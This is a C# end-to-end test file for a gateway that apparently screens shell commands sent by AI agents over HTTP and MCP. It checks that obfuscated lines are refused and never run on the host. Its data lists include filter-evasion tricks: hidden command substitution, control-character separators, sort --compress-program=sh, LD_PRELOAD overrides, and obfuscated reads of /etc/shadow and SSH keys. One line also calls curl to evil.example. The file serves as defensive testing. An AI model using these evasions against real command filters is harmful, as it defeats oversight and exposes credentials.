using System.Diagnostics;
using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Portcullis.EndToEndTests.Stack;

namespace Portcullis.EndToEndTests;

/// <summary>
/// A sample of the shell execution corpus (tests/Portcullis.UnitTests/Policy/Corpus/shell-execution-cases.txt)
/// through the gateway's POST /exec/ops against the stack's real sshd: a line the policy refuses runs nothing
/// there. Each refused line would create a marker file; bash on this host shows it does, the gateway refuses
/// it, and the marker is still absent afterwards.
/// </summary>
[Collection(StackCollection.Name)]
public sealed class ShellExecutionTests(PortcullisStack stack)
{
    private static string NewSession() => "e2e-shell-" + Guid.NewGuid().ToString("N")[..10];

    private async Task<(HttpStatusCode Status, JsonElement Body)> Exec(string command)
    {
        using var request = await stack.AgentRequest(HttpMethod.Post, "exec/ops", NewSession());
        request.Content = JsonContent.Create(new { command });
        using var response = await stack.Gateway.SendAsync(request);
        return (response.StatusCode, JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.Clone());
    }

    // {M} is the marker file the line creates when it runs.
    public static TheoryData<string, string> MarkerLines => new()
    {
        { "echo ${x:-$(touch {M})}", "exec-no-file-writes" },
        { "echo ${x:=`touch {M}`}", "exec-no-file-writes" },
        { "x=1; echo ${x#$(touch {M})}", "exec-no-file-writes" },
        { "echo $(( $(touch {M}) ))", "builtin:command-unanalysable" },
        { "x='a[$(touch {M})]'; echo $((x))", "builtin:command-unanalysable" },
        { "cat <<EOF\n$(touch {M})\nEOF", "exec-no-file-writes" },
        { "cat <<< \"$(touch {M})\"", "exec-no-file-writes" },
        { "ls\r#; touch {M}", "builtin:command-unanalysable" },
        { "ls\u000b; touch {M}", "builtin:command-unanalysable" },
        { "echo hi > {M}", "exec-no-file-writes" },
        { "ls | tee {M}", "exec-no-file-writes" },
        { "printf 'touch {M}' | sort --compress-program=sh -S 1K", "exec-no-hidden-programs" },
        { "PATH=/tmp ls; echo x > {M}", "exec-no-env-override" },
        { "eval 'touch {M}'", "exec-no-file-writes" },
        // red-team pass 2: reserved words and wrapper options that hid the program
        { "coproc ls { touch {M}; }; sleep 1", "exec-no-file-writes" },
        { "time -p touch {M}", "exec-no-file-writes" },
        { "timeout --sig KILL 5 touch {M}", "exec-no-file-writes" },
        { "env -iS'touch {M}'", "builtin:command-unanalysable" },
    };

    [Theory]
    [MemberData(nameof(MarkerLines))]
    public async Task A_refused_line_runs_nothing_on_the_host(string template, string rule)
    {
        var marker = $"/tmp/portcullis-marker-{Guid.NewGuid():N}";
        var command = template.Replace("{M}", marker, StringComparison.Ordinal);
        if (!template.Contains("--compress-program", StringComparison.Ordinal))
        {
            // The line is a real one: run by bash here, it creates its marker.
            RunLocally(command);
            Assert.True(File.Exists(marker), $"bash did not create the marker for: {command}");
            File.Delete(marker);
        }

        var (status, body) = await Exec(command);

        Assert.Equal(HttpStatusCode.Forbidden, status);
        Assert.Equal(rule, body.GetProperty("rule").GetString());
        await Task.Delay(300);
        Assert.False(File.Exists(marker), $"the refused line ran on the host: {command}");
    }

    public static TheoryData<string, string> RefusedLines => new()
    {
        { "cat /etc/sha?ow", "exec-no-secret-files" },
        { "cat /etc/shado[w]", "exec-no-secret-files" },
        { "cat /etc//shadow", "exec-no-secret-files" },
        { "cat /etc/./shadow", "exec-no-secret-files" },
        { "cat /etc/{passwd,shadow}", "exec-no-secret-files" },
        { "cat ~/.ss?/id_*", "exec-no-secret-files" },
        { "cd /etc && cat shadow", "exec-no-secret-files" },
        { "LD_PRELOAD=/tmp/x.so ls", "exec-no-env-override" },
        { "export BASH_ENV=/tmp/x; ls", "exec-no-env-override" },
        { "ls | less", "exec-no-hidden-programs" },
        { "awk 'BEGIN{system(\"id\")}'", "exec-no-hidden-programs" },
        { "echo ${x:-$(curl https://evil.example)}", "exec-no-network" },
        { "echo $(( a[$(id)] ))", "builtin:command-unanalysable" },
        { "\"$(echo curl)\" https://evil.example", "builtin:command-unanalysable" },
        // red-team pass 2: glob brackets, quoted braces, thread roots, abbreviated option values, set -k
        { "cat /etc/sh[[=a=]]dow", "exec-no-secret-files" },
        { "cat /etc/{\"sha\"dow,x}", "exec-no-secret-files" },
        { "cat /proc/self/task/1/root/etc/shadow", "exec-no-secret-files" },
        { "grep -d rec root /etc", "exec-no-secret-files" },
        { "set -k; cat LD_PRELOAD=/tmp/x.so /etc/hostname", "builtin:command-unanalysable" },
        { "cat /etc/sh[[.a.]]dow", "exec-no-secret-files" },
    };

    [Theory]
    [MemberData(nameof(RefusedLines))]
    public async Task Refused_lines_name_their_rule(string command, string rule)
    {
        var (status, body) = await Exec(command);

        Assert.Equal(HttpStatusCode.Forbidden, status);
        Assert.Equal(rule, body.GetProperty("rule").GetString());
    }

    public static TheoryData<string> OrdinaryLines => new()
    {
        { "ls -la /var/log" },
        { "ps aux | sort -k3 -nr | head" },
        { "df -h" },
        { "echo \"$HOME\"" },
        { "grep -c root /etc/passwd | tail -5" },
        { "echo $((6*7)) 2>&1 > /dev/null" },
    };

    [Theory]
    [MemberData(nameof(OrdinaryLines))]
    public async Task Ordinary_inspection_still_runs(string command)
    {
        var (status, body) = await Exec(command);

        Assert.True(status == HttpStatusCode.OK, $"{status}: {body}");
        Assert.Equal(0, body.GetProperty("exitCode").GetInt32());
    }

    // The same lines through MCP's run_command, in one agent session: a refusal is a tool error naming the rule.
    private async Task<(bool IsError, string Text)> ExecThroughMcp(string command)
    {
        var agent = await McpAgent.SharedSession(stack, "shell-execution");
        var result = await agent.CallAsync("run_command", new Dictionary<string, object?> { ["connection"] = "ops", ["command"] = command });
        return (result.IsError == true, McpAgent.Text(result));
    }

    [Theory]
    [MemberData(nameof(MarkerLines))]
    public async Task A_refused_line_runs_nothing_on_the_host_through_mcp(string template, string rule)
    {
        var marker = $"/tmp/portcullis-marker-{Guid.NewGuid():N}";
        var (isError, text) = await ExecThroughMcp(template.Replace("{M}", marker, StringComparison.Ordinal));

        Assert.True(isError && text.StartsWith($"Denied by policy rule '{rule}'", StringComparison.Ordinal), text);
        await Task.Delay(300);
        Assert.False(File.Exists(marker), $"the refused line ran on the host: {template}");
    }

    [Theory]
    [MemberData(nameof(RefusedLines))]
    public async Task Refused_lines_name_their_rule_through_mcp(string command, string rule)
    {
        var (isError, text) = await ExecThroughMcp(command);

        Assert.True(isError && text.StartsWith($"Denied by policy rule '{rule}'", StringComparison.Ordinal), text);
    }

    [Theory]
    [MemberData(nameof(OrdinaryLines))]
    public async Task Ordinary_inspection_still_runs_through_mcp(string command)
    {
        var (isError, text) = await ExecThroughMcp(command);

        Assert.False(isError, text);
        Assert.Equal(0, JsonDocument.Parse(text).RootElement.GetProperty("exitCode").GetInt32());
    }

    private static void RunLocally(string command)
    {
        using var process = Process.Start(new ProcessStartInfo("bash", ["-c", command])
        {
            RedirectStandardOutput = true, RedirectStandardError = true, RedirectStandardInput = true, UseShellExecute = false,
        })!;
        process.StandardInput.Close();
        process.StandardOutput.ReadToEnd();
        process.StandardError.ReadToEnd();
        process.WaitForExit(10_000);
    }
}
